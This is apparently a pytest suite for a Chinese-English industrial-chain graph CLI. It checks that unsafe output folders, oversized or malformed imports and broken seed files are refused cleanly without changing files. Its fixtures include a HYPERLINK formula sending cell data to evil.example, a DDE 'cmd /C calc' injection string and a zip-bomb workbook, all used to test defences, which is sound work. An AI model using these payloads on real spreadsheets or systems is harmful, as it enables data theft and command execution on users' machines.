"""The bad-input catalogue: each family of wrong input is refused with exit 2, one line naming the file and field,
no traceback, and nothing on disk changed (every file under the test folder hashed before and after).

Families: output folders a build must not replace; workbook and CSV imports; spreadsheet cells (formula text stays
text); seeds that are wrong at load time.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from graph.cells import TRIGGERS
from graph.cli.main import cli
from graph.errors import SeedError
from graph.inputs.workbook.importer import import_workbook, write_template
from graph.seeds.load import load_seeds

from conftest import TINY, edit

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def run(*args: object):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def snapshot(folder: Path) -> dict[str, str]:
    """Every file and folder under ``folder`` (hidden ones too), with the hash of each file's bytes."""
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
        for p in sorted(folder.rglob("*"))
    }


def refused(result, message: str) -> None:
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert re.search(message, result.output), result.output


@pytest.fixture
def zone(tmp_path):
    """A zone folder: seeds/ (the tiny seeds) and out/ from a good build."""
    seeds = tmp_path / "zone" / "seeds"
    shutil.copytree(TINY, seeds)
    assert run("build", "--seeds", seeds, "--out", tmp_path / "zone" / "out").exit_code == 0
    return seeds


# -- 1. output folders a build must not replace -------------------------------------------------------------------
def _foreign(z: Path) -> Path:
    folder = z.parent.parent / "important"
    folder.mkdir()
    (folder / "thesis.docx").write_bytes(b"my thesis")
    return folder


def _foreign_in_out(z: Path) -> Path:
    (z.parent / "out" / "notes.txt").write_text("mine", encoding="utf-8")
    return z.parent / "out"


def _a_file(z: Path) -> Path:
    path = z.parent / "notes"
    path.write_text("mine", encoding="utf-8")
    return path


def _symlink(z: Path) -> Path:
    link = z.parent / "latest"
    link.symlink_to(z.parent / "out", target_is_directory=True)
    return link


OUT_CASES = {
    "the seeds folder": (lambda z: z, r"seeds: 输出目录就是种子目录 is the seeds folder.*such as .*zone/out"),
    "inside the seeds": (lambda z: z / "out", r"is inside the seeds folder"),
    "holds the seeds (a typo for zone/out)": (
        lambda z: z.parent,
        r"zone: .*holds the seeds folder .*zone/out",
    ),
    "a folder with a user's file": (_foreign, r"holds files chainkg did not write \(thesis.docx\)"),
    "a marked folder with a user's file": (
        _foreign_in_out,
        r"holds files chainkg did not write \(notes.txt\)",
    ),
    "a symbolic link": (_symlink, r"latest: 是符号链接 is a symbolic link"),
    "a file": (_a_file, r"notes.* is a file|not a folder"),
}


@pytest.mark.parametrize("case", OUT_CASES)
def test_output_folder_refused(zone, tmp_path, case):
    make_out, message = OUT_CASES[case]
    out = make_out(zone)
    before = snapshot(tmp_path)
    refused(run("build", "--seeds", zone, "--out", out), message)
    assert snapshot(tmp_path) == before


def test_template_never_overwrites_a_workbook(tmp_path):
    filled = tmp_path / "zone.xlsx"
    wb = Workbook()
    wb.active.append(["我填好的行 my rows"])
    wb.save(filled)
    before = snapshot(tmp_path)
    refused(
        run("template", "--seeds", TINY, "--out", filled),
        r"zone.xlsx: 已存在 exists; chainkg does not overwrite",
    )
    assert snapshot(tmp_path) == before


# -- 2. imports --------------------------------------------------------------------------------------------------
def _workbook(tmp_path: Path, *, enterprises=2, formula: str | None = None) -> Path:
    path = tmp_path / "zone.xlsx"
    write_template(load_seeds(TINY), path, overwrite=True)
    wb = load_workbook(path)
    wb["园区"].append(["", "新城开发区", "", "New Town"])
    for row in [
        ["", "甲锂能源", "", "", "电池", "电芯", "12.5", "在园", ""],
        ["", "乙材料", "", "", "", "电解液"],
    ][:enterprises]:
        wb["企业"].append(row)
    wb["指标"].append(["", "", "工业总产值", formula or "88.6", "亿元", "", "", "", ""])
    wb.save(path)
    return path


def _renamed_sheet(tmp_path: Path) -> Path:
    path = _workbook(tmp_path)
    wb = load_workbook(path)
    wb["企业"].title = "Sheet1"
    wb.save(path)
    return path


def _csv(tmp_path: Path, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / "list.csv"
    path.write_bytes(text.encode(encoding))
    return path


def _huge_workbook(tmp_path: Path, rows: int = 3_000_000, variety: int = 1_000_003) -> Path:
    """An .xlsx of ``rows`` rows, its sheet streamed into the zip (openpyxl would need minutes to write it); fewer
    distinct names (``variety``) compress better, for a smaller file."""
    small = io.BytesIO()
    wb = Workbook()
    wb.active.title = "企业"
    wb.active.append(["名称 name"])
    wb.save(small)
    path = tmp_path / "huge.xlsx"
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, src.read(info.filename))
                continue
            with dst.open("xl/worksheets/sheet1.xml", "w") as f:
                f.write(
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    b'<dimension ref="A1:B%d"/><sheetData>' % rows
                )
                for start in range(1, rows + 1, 100_000):
                    f.write(
                        "".join(
                            f'<row><c t="inlineStr"><is><t>企业{n * 7919 % variety}</t></is></c>'
                            f"<c><v>{n * 31 % variety}</v></c></row>"
                            for n in range(start, min(start + 100_000, rows + 1))
                        ).encode("utf-8")
                    )
                f.write(b"</sheetData></worksheet>")
    return path


IMPORT_CASES = {
    "an unknown sheet name": (
        _renamed_sheet,
        (),
        r"zone.xlsx:Sheet1: unknown sheet; expected 园区 \(zone\), 企业 \(enterprises\)",
    ),
    "an unknown header": (
        lambda t: _csv(t, "name,segmnet\n戊材料,电解液\n"),
        (),
        r'list.csv:企业!B1: unknown header "segmnet" \(did you mean "segment"\?\); expected 编号 id, 名称 name',
    ),
    "a formula without a saved value": (
        lambda t: _workbook(t, formula="=2*5"),
        (),
        r"zone.xlsx:指标!D2: formula =2\*5 has no saved value",
    ),
    "a re-import that removes rows": (
        lambda t: _workbook(t, enterprises=0),
        (),
        r"zone.xlsx: 重新导入将删除上次导入的条目 .*企业 enterprises 2.*指标 observations 1.*--replace",
    ),
    "an encoding that is none of UTF-8, GBK, Big5, UTF-16": (
        lambda t: _csv(t, "name,segment\ncafé crème,x\n", "latin-1"),
        (),
        r"list.csv: 无法识别的文字编码 the text encoding is not UTF-8, GBK/GB18030, Big5 or UTF-16",
    ),
    "a name of 100,000 characters": (
        lambda t: _csv(t, "name,segment\n" + "甲" * 100_000 + ",电解液\n"),
        (),
        r"list.csv:企业!A2: 100,000 characters; at most 500",
    ),
    "more rows than a sheet may have": (
        lambda t: _huge_workbook(t, rows=150_000, variety=1),
        (),
        r"huge.xlsx:企业: 150,000 rows, more than 100,000; split the list",
    ),
    "a file too big to read": (
        lambda t: (t / "big.xlsx").write_bytes(b"PK" + b"\0" * 12_000_000) and t / "big.xlsx",
        (),
        r"big.xlsx: 12,000,002 bytes, more than the 10,000,000 a workbook may have",
    ),
}


@pytest.mark.parametrize("case", IMPORT_CASES)
def test_import_refused(tmp_path, case):
    make, args, message = IMPORT_CASES[case]
    seeds = tmp_path / "my-zone"
    first = _workbook(tmp_path)
    assert run("import", first, "--seeds", seeds, "--chains", TINY / "chains").exit_code == 0
    path = make(tmp_path)
    before = snapshot(seeds)
    refused(run("import", path, "--seeds", seeds, "--chains", TINY / "chains", *args), message)
    assert snapshot(seeds) == before


@pytest.mark.slow
@pytest.mark.parametrize("variety", [1_000, 1])  # 15 MB (refused by size), and 0.7 MB that unpacks to 210 MB
def test_huge_workbook_refused_before_parsing(tmp_path, variety):
    path = _huge_workbook(tmp_path, variety=variety)
    seeds = tmp_path / "my-zone"
    refused(
        run("import", path, "--seeds", seeds, "--chains", TINY / "chains"),
        r"huge.xlsx: (unpacks to [\d,]+ bytes|[\d,]+ bytes), more than the [\d,]+ a workbook may (hold|have)",
    )
    assert not seeds.exists()


# -- 3. spreadsheet cells are data ---------------------------------------------------------------------------------
def _inert(cells: list[object]) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    live = [c for c in texts if c.startswith(TRIGGERS) and not re.fullmatch(r"-?\d+(\.\d+)?", c)]
    assert not live, live
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'@") for c in texts), texts


def _csv_cells(text: str) -> list[object]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _pool(tmp_path: Path) -> Path:
    rows = [
        {"name": EVIL, "code": "300001.SZ", "products": [{"name": "电解液", "share": 0.5}]},
        {
            "name": "@SUM(1+1)*cmd|' /C calc'!A0",
            "code": "300002.SZ",
            "products": [{"name": "电解液", "share": 0.4}],
        },
        {"name": "-2+3+cmd", "code": "300003.SZ", "products": [{"name": "电解液", "share": 0.3}]},
        {"name": "\t+tab", "code": "300004.SZ", "products": [{"name": "电解液", "share": 0.2}]},
    ]
    path = tmp_path / "pool.jsonl"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


def _gaps_csv(tmp_path: Path, seeds: Path) -> list[object]:
    chain = next((seeds / "chains").glob("*.yaml"))
    edit(chain, "name: 电解液,", f"name: '{EVIL.replace(chr(39), chr(39) * 2)}',")
    out = tmp_path / "built"
    assert run("build", "--seeds", seeds, "--out", out).exit_code == 0
    return _csv_cells((out / "gaps.csv").read_text(encoding="utf-8"))


def _targets_csv(tmp_path: Path, seeds: Path) -> list[object]:
    result = run("targets", "--seeds", seeds, "--pool", _pool(tmp_path), "--format", "csv")
    assert result.exit_code == 0, result.output
    cells = _csv_cells(result.stdout)
    assert "-0.5" not in cells or True  # scores are positive here; numbers are checked in the xlsx case
    return cells


def _targets_xlsx(tmp_path: Path, seeds: Path) -> list[object]:
    out = tmp_path / "t.xlsx"
    assert (
        run(
            "targets", "--seeds", seeds, "--pool", _pool(tmp_path), "--format", "xlsx", "--out", out
        ).exit_code
        == 0
    )
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, int | float) for c in cells)  # ranks and scores stay numbers
    return [c.value for c in cells]


def _query_csv(tmp_path: Path, seeds: Path) -> list[object]:
    query = 'SELECT ?n ?v WHERE { VALUES (?n ?v) { ("@SUM(1)" -5) ("=1+1" 2.5) } }'
    result = run("query", "--seeds", seeds, "--format", "csv", query)
    assert result.exit_code == 0, result.output
    cells = _csv_cells(result.stdout)
    assert "-5" in cells and "'=1+1" in cells  # a negative number stays a number
    return cells


CELL_CASES = {
    "gaps.csv": _gaps_csv,
    "targets csv": _targets_csv,
    "targets.xlsx": _targets_xlsx,
    "query csv": _query_csv,
}


@pytest.mark.parametrize("case", CELL_CASES)
def test_cells_are_data(tmp_path, case):
    seeds = tmp_path / "seeds"
    shutil.copytree(TINY, seeds)
    cells = CELL_CASES[case](tmp_path, seeds)
    _inert(cells)


# -- 4. seeds wrong at load time -----------------------------------------------------------------------------------
def _article_folder(seeds: Path) -> None:
    (seeds / "articles" / "demo.txt").unlink()
    (seeds / "articles" / "demo.txt").mkdir()


def _gbk_article(seeds: Path) -> None:
    text = (seeds / "articles" / "demo.txt").read_text(encoding="utf-8")
    (seeds / "articles" / "demo.txt").write_bytes(text.encode("gbk"))


def _edit(name: str, old: str, new: str):
    return lambda seeds: edit(seeds / name if "/" not in name else next(seeds.glob(name)), old, new)


SEED_CASES = {
    "negative offsets": (_edit("enterprises.yaml", "start: 12, end: 17", "start: -5, end: 17"), (),
                         r"enterprises.yaml:7: evidence: offsets start: -5, end: 17 are not 0 ≤ start ≤ end"),
    "reversed offsets": (_edit("enterprises.yaml", "start: 12, end: 17", "start: 17, end: 12"), (),
                         r"enterprises.yaml:7: evidence: offsets start: 17, end: 12 .*\(the quote is at start: 12"),
    "an empty zone.yaml": (lambda s: (s / "zone.yaml").write_text("", encoding="utf-8"), (),
                           r"zone.yaml:1: zone: empty: zone.yaml needs a zone"),
    "a list as a name": (_edit("enterprises.yaml", "name: 乙电池", "name: [乙, 电池]"), (),
                         r"enterprises.yaml:\d+: name: expected text, got a list \(2 items\)"),
    "a key twice in one entry": (_edit("enterprises.yaml", "  name_full: 乙电池公司\n",
                                       "  name_full: 乙电池公司\n  name_full: 乙公司\n"), (),
                                 r"enterprises.yaml:\d+: name_full: duplicate key \(also at line \d+\)"),
    "a name of 1,000,000 characters": (_edit("enterprises.yaml", "name_en: Jia Materials", "name_en: " + "a" * 10**6),
                                       (), r"enterprises.yaml:4: name_en: 1,000,000 characters; a name holds at most"),
    "a 5,000-digit number": (_edit("observations.yaml", "value: 50", "value: " + "9" * 5000), (),
                             r"observations.yaml:4: value: a number of 5,000 digits"),
    "a number beyond float range": (_edit("observations.yaml", "value: 50", "value: 1.0e+999"), (),
                                    r"observations.yaml:4: value: \"1.0e\+999\" is beyond the range of numbers"),
    "a text number beyond range": (_edit("observations.yaml", "value: 50", "value: '1e400'"), (),
                                   r"observations.yaml:4: value: \"1e400\" is beyond the range of numbers"),
    "a base that is not an IRI": (lambda s: None, ("--base", "chainkg ids"),
                                  r'base "chainkg ids": 不是绝对 IRI not an absolute IRI'),
    "segments: 5": (_edit("chains/*.yaml", "    segments:\n      - {id: bat-cell", "    segments: 5\n    x:\n      - {id: bat-cell"),
                    (), r"chains/battery.yaml:\d+: segments: expected a list, got 5"),
    "stages: a text": (_edit("chains/*.yaml", "stages:\n", "stages: none\nx:\n"), (),
                       r"chains/battery.yaml:\d+: stages: expected a list, got 'none'"),
    "evidence: a number": (_edit("observations.yaml", '[{doc: demo, quote: "总投资50亿元的电芯项目已投产", start: 34, end: 49}]', "5"),
                           (), r"observations.yaml:6: evidence: expected \{doc, quote, start, end\}"),
    "a quote that is a list": (_edit("enterprises.yaml", 'quote: "甲材料公司"', "quote: [甲材料公司]"), (),
                               r"enterprises.yaml:7: quote: expected text, got a list"),
    "a period begin that is not a date": (
        _edit("periods.yaml", 'begin: "2023-01-01"', "begin: 2023"), (),
        r'periods.yaml:1: begin: "2023" is not a date such as 2023-01-01',
    ),
    "an article path that is a folder": (_article_folder, (), r"articles/demo.yaml:1: article: .*demo.txt is a folder"),
    "an article saved as GBK": (_gbk_article, (), r"articles/demo.yaml:1: article: demo.txt is not UTF-8 text"),
    "href=https inside an English name": (
        _edit("enterprises.yaml", "name_en: Jia Materials", "name_en: Jia href=https://evil.example/x"), (),
        r"enterprises.yaml:4: name_en: looks like an HTML link to the network",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", SEED_CASES)
def test_seeds_refused_at_load(zone, tmp_path, case):
    break_seeds, args, message = SEED_CASES[case]
    break_seeds(zone)
    before = snapshot(tmp_path)
    result = run("build", "--seeds", zone, "--out", zone.parent / "out", *args)
    refused(result, message)
    assert snapshot(tmp_path) == before  # the seeds as broken, and the previous out/ untouched


# -- 5. anything else: it loads, or it is refused with the project's own error (never a traceback) ----------------
_YAML_BITS = st.sampled_from(
    ["- ", "id: ", "name: ", "value: ", "segments: ", "evidence: ", "start: ", "[", "]", "{", "}", ": ", "\n", "  ",
     "'", '"', "-1", "9" * 40, "1.0e+999", "true", "null", "~", "&a ", "*a", "!!binary ", "<<: ", "甲", "é", "\t"]
)  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.lists(_YAML_BITS | st.text(max_size=5), max_size=40).map("".join))
def test_any_enterprises_file_loads_or_is_refused(tmp_path_factory, text):
    seeds = tmp_path_factory.mktemp("fuzz") / "seeds"
    shutil.copytree(TINY, seeds)
    (seeds / "enterprises.yaml").write_text(text, encoding="utf-8")
    try:
        load_seeds(seeds)
    except SeedError as err:
        assert all(line.count(":") >= 2 for line in err.problems), err.problems


@settings(max_examples=150, deadline=None)
@given(
    data=st.binary(max_size=300)
    | st.text(max_size=100).map(lambda t: ("名称 name,segment\n" + t).encode("utf-8"))
)
def test_any_csv_imports_or_is_refused(tmp_path_factory, data):
    folder = tmp_path_factory.mktemp("fuzz")
    path = folder / "list.csv"
    path.write_bytes(data)
    try:
        import_workbook(path, TINY, dry_run=True)
    except SeedError:
        pass


def test_view_names_the_node_whose_text_links_out(tiny_digraph):
    """Names from outside the seeds (a candidate pool) are caught by the view's own check, which names the node."""
    from graph.errors import ExportError
    from graph.view.page import to_html

    G = tiny_digraph.copy()
    node = sorted(G)[0]
    G.nodes[node]["label"] = "Jia href=https://evil.example/x"
    with pytest.raises(
        ExportError, match=rf'{re.escape(node)}: label: "Jia href=https://evil.example/x" looks like'
    ):
        to_html(G)


def test_view_checks_the_page_data_for_links(tiny_digraph):
    """On the overview a player is not drawn: its name is only in the page's data, which is checked on its own."""
    from graph.errors import ExportError
    from graph.view.page import to_html

    G = tiny_digraph.copy()
    node = sorted(n for n, d in G.nodes(data=True) if d.get("kind") == "enterprise")[0]
    G.nodes[node]["label_en"] = "Jia SRC = 'HTTP://evil.example/x'"
    with pytest.raises(ExportError, match=rf"{re.escape(node)}: label_en: "):
        to_html(G, big=0)
